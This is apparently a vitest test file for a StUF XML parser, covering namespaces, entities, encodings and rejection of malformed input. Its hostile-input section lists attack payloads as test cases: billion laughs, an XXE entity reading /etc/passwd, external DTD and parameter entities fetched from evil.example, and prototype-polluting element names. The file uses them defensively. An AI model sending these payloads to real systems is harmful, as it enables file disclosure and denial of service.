import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { StufProtocolError } from '../../../src/stuf/errors.ts';
import { NS, attrValue, child, isNoValue } from '../../../src/stuf/xml-node.ts';
import { parseXml } from '../../../src/stuf/xml-parse.ts';

function protocolError(fn: () => unknown): StufProtocolError {
  try {
    fn();
  } catch (e) {
    expect(e).toBeInstanceOf(StufProtocolError);
    return e as StufProtocolError;
  }
  throw new Error('expected a StufProtocolError');
}

describe('parseXml: namespaces', () => {
  it('resolves prefixes per scope, default namespace, un-declaration and attribute namespaces', () => {
    const root = parseXml(
      `<r xmlns="urn:a" xmlns:p="urn:p"><p:x p:att="1" plain="2"><y xmlns="urn:b"><z/></y><w xmlns=""/></p:x>` +
        `<q:s xmlns:q="urn:q" xml:lang="nl"/><p:t xmlns:p="urn:other"/></r>`,
    );
    expect([root.ns, root.name]).toEqual(['urn:a', 'r']);
    const x = root.children[0]!;
    expect([x.ns, x.name]).toEqual(['urn:p', 'x']);
    expect(x.attrs).toEqual([
      { ns: 'urn:p', name: 'att', value: '1' },
      { ns: '', name: 'plain', value: '2' },
    ]);
    expect(x.children.map((c) => [c.ns, c.name])).toEqual([
      ['urn:b', 'y'],
      ['', 'w'],
    ]);
    expect(x.children[0]!.children[0]!.ns).toBe('urn:b');
    const s = root.children[1]!;
    expect([s.ns, s.name]).toEqual(['urn:q', 's']);
    expect(s.attrs).toEqual([{ ns: 'http://www.w3.org/XML/1998/namespace', name: 'lang', value: 'nl' }]);
    expect(root.children[2]!.ns).toBe('urn:other'); // re-declared prefix
  });

  it('drops xmlns declarations from the attributes', () => {
    const root = parseXml('<a:r xmlns:a="urn:a" xmlns="urn:d" k="v"/>');
    expect(root.attrs).toEqual([{ ns: '', name: 'k', value: 'v' }]);
  });

  it.each([
    ['<p:a/>', 'undeclared element prefix'],
    ['<a p:x="1"/>', 'undeclared attribute prefix'],
    ['<a xmlns:p="urn:p"><b/></a><p:c/>', 'second root'],
  ])('rejects %s (%s)', (xml) => {
    expect(protocolError(() => parseXml(xml)).reason).toBe('malformed');
  });
});

describe('parseXml: content', () => {
  it('decodes predefined entities and character references, keeps unknown ones literally', () => {
    const root = parseXml(`<a v="&lt;&amp;&quot;&apos;&#233;&#x1F600;">&gt; caf&#xe9; &amp;amp; &nbsp; &#0;</a>`);
    expect(root.attrs[0]!.value).toBe(`<&"'é😀`);
    expect(root.text).toBe('> café &amp; &nbsp; &#0;');
  });

  it('keeps CDATA as text, drops comments and processing instructions, keeps whitespace', () => {
    const root = parseXml('<?xml version="1.0"?><!-- c --><a> x <![CDATA[<b>&amp;</b>]]><!-- d --><?pi data?> y </a><!-- e -->');
    expect(root.text).toBe(' x <b>&amp;</b> y ');
    expect(root.children).toEqual([]);
  });

  it('normalizes CRLF and keeps attributes with > and quotes', () => {
    const root = parseXml(`<a x='say "hi" >' y="it's">l1\r\nl2</a>`);
    expect(attrValue(root, 'x')).toBe('say "hi" >');
    expect(attrValue(root, 'y')).toBe("it's");
    expect(root.text).toBe('l1\nl2');
  });

  it('treats nil with a misspelled xsi namespace as no value', () => {
    const root = parseXml(
      `<BG:o xmlns:BG="${NS.bg}" xmlns:StUF="${NS.stuf}" xmlns:xsi="http://www.w3.org/2001/XMLSchemainstance">` +
        `<BG:a xsi:nil="true" StUF:noValue="geenWaarde"/><BG:b StUF:noValue="waardeOnbekend"/><BG:c>1</BG:c></BG:o>`,
    );
    expect(isNoValue(child(root, 'a', NS.bg)!)).toBe(true);
    expect(isNoValue(child(root, 'b', NS.bg)!)).toBe(true);
    expect(isNoValue(child(root, 'c', NS.bg)!)).toBe(false);
  });
});

describe('parseXml: encodings', () => {
  const latin1Body = Buffer.from([...Buffer.from('<a>caf'), 0xe9, ...Buffer.from('</a>')]);

  it.each([
    ['UTF-8 without declaration', Buffer.from('<a>café</a>', 'utf8'), undefined, 'café'],
    ['UTF-8 with BOM', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('<a>café</a>')]), undefined, 'café'],
    ['UTF-16LE with BOM', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<a>café</a>', 'utf16le')]), undefined, 'café'],
    ['ISO-8859-1 declared', Buffer.concat([Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?>'), latin1Body]), undefined, 'café'],
    ['windows-1252 from the HTTP charset', latin1Body, 'windows-1252', 'café'],
    ['declaration wins over HTTP charset', Buffer.from('<?xml version="1.0" encoding="UTF-8"?><a>café</a>'), 'iso-8859-1', 'café'],
  ])('%s', (_name, bytes, charset, text) => {
    expect(parseXml(bytes, charset ? { charset } : {}).text).toBe(text);
  });

  it('rejects invalid UTF-8 instead of replacing bytes (that would lose data)', () => {
    expect(protocolError(() => parseXml(latin1Body)).reason).toBe('encoding');
  });

  it('rejects unsupported encodings', () => {
    expect(protocolError(() => parseXml(Buffer.from('<?xml version="1.0" encoding="EBCDIC-x"?><a/>'))).reason).toBe('encoding');
  });
});

describe('parseXml: hostile and malformed input → typed error, quickly', () => {
  const laughs =
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">' +
    Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('') +
    ']><lolz>&lol9;</lolz>';
  const deep = '<a>'.repeat(100_000) + '</a>'.repeat(100_000);
  const wide = `<r>${'<e/>'.repeat(300_000)}</r>`;
  const hugeText = `<r>${'x'.repeat(2 * 1024 * 1024)}</r>`;
  const hugeCdata = `<r><![CDATA[${'x'.repeat(2 * 1024 * 1024)}]]></r>`;
  const manySmallTexts = `<r>${'x<!---->'.repeat(1_100_000)}</r>`;

  it.each([
    ['billion laughs', laughs, 'doctype'],
    ['external entity', '<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><a>&xxe;</a>', 'doctype'],
    ['external DTD', '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>', 'doctype'],
    ['parameter entity', '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><a/>', 'doctype'],
    ['stray ENTITY declaration inside content', '<a><!ENTITY x "y"></a>', 'doctype'],
    ['deep nesting', deep, 'limit'],
    ['too many elements', wide, 'limit'],
    ['huge text', hugeText, 'limit'],
    ['huge CDATA', hugeCdata, 'limit'],
    ['text split by comments', manySmallTexts, 'limit'],
    ['empty input', '', 'malformed'],
    ['text only', 'not xml', 'malformed'],
    ['unclosed root (truncated answer)', '<a><b>1</b><b>2', 'malformed'],
    ['mismatched end tag', '<a><b></a></b>', 'malformed'],
    ['end tag without start', '</a>', 'malformed'],
    ['unterminated start tag', '<a><b x="1"', 'malformed'],
    ['unterminated attribute', '<a x="1/>', 'malformed'],
    ['unterminated comment', '<a><!-- x </a>', 'malformed'],
    ['unterminated CDATA', '<a><![CDATA[ x </a>', 'malformed'],
    ['text after the root', '<a/>trailing', 'malformed'],
    ['prototype-polluting element name', '<__proto__><polluted>1</polluted></__proto__>', 'malformed'],
    ['constructor element name', '<constructor/>', 'malformed'],
  ])('%s', (_name, xml, reason) => {
    const started = performance.now();
    expect(protocolError(() => parseXml(xml)).reason).toBe(reason);
    expect(performance.now() - started).toBeLessThan(500);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('applies caller limits', () => {
    expect(protocolError(() => parseXml('<a><b><c/></b></a>', { limits: { maxDepth: 2 } })).reason).toBe('limit');
    expect(protocolError(() => parseXml('<a><b/><b/></a>', { limits: { maxElements: 2 } })).reason).toBe('limit');
    expect(protocolError(() => parseXml('<a>12345</a>', { limits: { maxTextLength: 4 } })).reason).toBe('limit');
    expect(protocolError(() => parseXml('<a>12345</a>', { limits: { maxChars: 5 } })).reason).toBe('limit');
    expect(parseXml('<a><b><c/></b></a>', { limits: { maxDepth: 3 } }).name).toBe('a');
  });

  it('never throws anything but StufProtocolError (fuzzed)', () => {
    const fragments = fc.constantFrom('<a>', '</a>', '<b x="1">', '</b>', '<c/>', '<!--', '-->', '<![CDATA[', ']]>', '<?', '?>', '&amp;', '&#', ';', '"', "'", '<!D', 'xmlns:p="u"', '<p:d>', '</p:d>', ' ', 'text', '>', '<', '\u0000', '\uD800');
    fc.assert(
      fc.property(fc.array(fragments, { maxLength: 40 }), (parts) => {
        try {
          parseXml(parts.join(''));
        } catch (e) {
          if (!(e instanceof StufProtocolError)) throw e;
        }
      }),
      { numRuns: 2000 },
    );
  });
});
